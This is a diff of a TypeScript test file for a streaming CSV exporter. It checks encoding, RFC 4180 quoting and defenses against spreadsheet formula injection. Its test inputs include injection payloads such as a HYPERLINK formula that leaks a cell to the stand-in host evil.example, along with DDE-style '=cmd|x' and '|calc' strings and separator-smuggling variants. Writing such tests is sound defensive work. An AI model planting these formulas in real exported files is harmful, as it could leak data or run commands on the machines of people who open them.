@@ -1,19 +1,116 @@
+import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { toCsv } from './csv.ts'
+import { toCsv, type CsvCell } from './csv.ts'
 
-const cellOf = (value: string) => toCsv(['A'], [[value]]).slice('\uFEFFA\r\n'.length, -2)
+async function allOf(pieces: AsyncIterable<string>): Promise<string> {
+  let text = ''
+  for await (const piece of pieces) text += piece
+  return text
+}
 
-describe('a file of comma-separated values', () => {
-  it('has a line of headings and a line a row, and says that it is UTF-8', () => {
-    expect(toCsv(['Name', 'Amount', 'Note'], [['Zoë', -5, null]])).toBe('\uFEFFName,Amount,Note\r\nZoë,-5,\r\n')
+async function written(...cells: CsvCell[]): Promise<string> {
+  const columns = cells.map((_, index) => ({ head: `c${index}`, cell: (row: CsvCell[]) => row[index]! }))
+  const pages = (async function* () {
+    yield [cells]
+  })()
+  const [, ...rest] = (await allOf(toCsv(columns, pages))).split('\r\n')
+  return rest.join('\r\n')
+}
+
+describe('a CSV file', () => {
+  it('begins with the mark that tells a spreadsheet its encoding, then the heads', async () => {
+    const empty = (async function* () {})()
+    const head = [
+      { head: 'Name, full', cell: () => '' },
+      { head: 'Zoë', cell: () => '' },
+    ]
+    expect(await allOf(toCsv(head, empty))).toBe('\uFEFF"Name, full",Zoë\r\n')
   })
 
-  it('keeps commas, quotes and line breaks inside their cell', () => {
-    expect(cellOf('a "b", c\nd')).toBe('"a ""b"", c\nd"')
+  it('quotes what would break its lines and cells (RFC 4180)', async () => {
+    expect(await written('a,b', 'say "hi"', 'two\nlines', 'plain', '')).toBe(
+      '"a,b","say ""hi""","two\nlines",plain,\r\n',
+    )
   })
 
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '|cmd', '\t=1', ' =HYPERLINK("http://x.example")', '\r=1', '%0A=1'])(
-    'never lets a spreadsheet run %j',
-    (text) => expect(cellOf(text)).toMatch(/^"?'/),
-  )
+  it('writes numbers, flags, moments and nothing plainly', async () => {
+    const moment = new Date('2026-01-15T12:00:00Z')
+    expect(await written(-5, true, false, moment, null)).toBe('-5,yes,no,2026-01-15T12:00:00.000Z,\r\n')
+  })
+
+  it.each([
+    ['=1+2', "'=1+2"],
+    ['+1 555 0100', "'+1 555 0100"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['|calc', "'|calc"],
+    ['\t=1', `"'\t'=1"`],
+    ['\tname', `"'\tname"`],
+    [' =1', "' =1"],
+    ['%0A=1', "'%0A=1"],
+    ['\uFF1D1', "'\uFF1D1"],
+    ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
+    ['\r=1', `"'\r'=1"`],
+    ['a=1', 'a=1'],
+    // Where a semicolon or a tab ends a cell, the quotes around this one mean nothing.
+    ['Acme;=cmd|x', `"Acme;'=cmd|x"`],
+    ['Acme; "=cmd|x"', `"Acme;' ""=cmd|x"""`],
+    ['Acme\t=cmd|x', `"Acme\t'=cmd|x"`],
+    ['Acme\n=cmd|x', `"Acme\n'=cmd|x"`],
+    ['Acme, =1; b', '"Acme, =1; b"'],
+  ])('keeps a spreadsheet from running %j', async (text, cell) => expect(await written(text)).toBe(`${cell}\r\n`))
+
+  it('is read without a formula by whatever a spreadsheet tells cells apart', async () => {
+    const part = fc.constantFrom(
+      '=1',
+      '-2',
+      '@x',
+      '|x',
+      '+3',
+      '\uFF1D1',
+      ';',
+      ',',
+      '\t',
+      '"',
+      "'",
+      '\n',
+      ' ',
+      'word',
+      '',
+    )
+    const text = fc.array(part, { maxLength: 8 }).map((parts) => parts.join(''))
+    const property = fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 3 }), async (cells) => {
+      const file = await written(...cells)
+      for (const separator of [',', ';', '\t'])
+        for (const cell of cellsOf(file, separator)) expect(cell).not.toMatch(/^[\s"]*[=+\-@|%\uFF1D]/)
+    })
+    await fc.assert(property, { numRuns: 2000 })
+  })
 })
+
+/** What a spreadsheet sees: quotes count at the beginning of a cell. */
+function cellsOf(file: string, separator: string): string[] {
+  const cells: string[] = []
+  let cell = ''
+  let isQuoted = false
+  let isNew = true
+  for (let at = 0; at < file.length; at++) {
+    const sign = file[at]!
+    if (isQuoted) {
+      if (sign !== '"') cell += sign
+      else if (file[at + 1] === '"') cell += file[++at]
+      else isQuoted = false
+    } else if (sign === '"' && isNew) {
+      isQuoted = true
+    } else if (sign === separator || sign === '\n' || sign === '\r') {
+      cells.push(cell)
+      cell = ''
+      isNew = true
+      continue
+    } else {
+      cell += sign
+    }
+    isNew = false
+  }
+  return [...cells, cell]
+}
